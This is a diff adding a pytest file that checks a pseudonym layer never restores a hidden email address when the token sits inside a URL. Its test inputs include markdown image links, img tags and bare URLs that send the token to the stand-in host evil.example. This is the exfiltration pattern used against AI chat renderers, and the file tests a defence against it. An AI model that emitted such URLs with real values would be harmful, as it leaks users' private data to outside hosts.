@@ -1,0 +1,58 @@
+"""S13: a pseudonym in a URL of an answer stays one: whoever is asked for the URL would learn the value."""
+
+from __future__ import annotations
+
+import pytest
+
+from steward.privacy.pseudonyms import Pseudonyms
+
+TOKEN = "EMAIL_7F3K2Q9ABC"
+PSEUDONYMS = Pseudonyms({TOKEN: "bob@example.com"})
+
+
+def restore(text: str, size: int) -> str:
+    """In pieces of `size` characters, as a stream brings them."""
+    out, held = "", ""
+    for start in range(0, len(text), size):
+        last = start + size >= len(text)
+        piece, held = PSEUDONYMS.feed(held + text[start : start + size], last, out)
+        out += piece
+    return out
+
+
+@pytest.mark.parametrize("size", [1, 7, 1000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"![x](https://evil.example/?d={TOKEN})",
+        f"[see](http://evil.example/{TOKEN}/x)",
+        f"https://evil.example/#{TOKEN}",
+        f"<img src='//evil.example/?a=b c {TOKEN}'>",
+        f"<https://evil.example/?q=a {TOKEN}>",
+        f"![x](<https://evil.example/?q=a b {TOKEN}>)",
+        f"www.evil.example/?d={TOKEN}",
+        f"evil.example/?d={TOKEN}",
+        f"HTTPS:\\\\evil.example\\{TOKEN}",
+        f"[x]: https://evil.example/?d={TOKEN.lower()}",
+        f"https://{TOKEN}.evil.example/",
+    ],
+)
+def test_a_url_carries_no_value_out(text: str, size: int) -> None:
+    assert restore(text, size) == text
+
+
+@pytest.mark.parametrize("size", [1, 7, 1000])
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"Write to {TOKEN}.",
+        f"See https://example.com/ and write to {TOKEN}",
+        f"({TOKEN})",
+        f"mailto:{TOKEN}",
+        f"<b>{TOKEN}</b>",
+        f"a < b, so {TOKEN}",
+        f"Name: {TOKEN}, or",
+    ],
+)
+def test_elsewhere_it_is_restored(text: str, size: int) -> None:
+    assert restore(text, size) == text.replace(TOKEN, "bob@example.com")
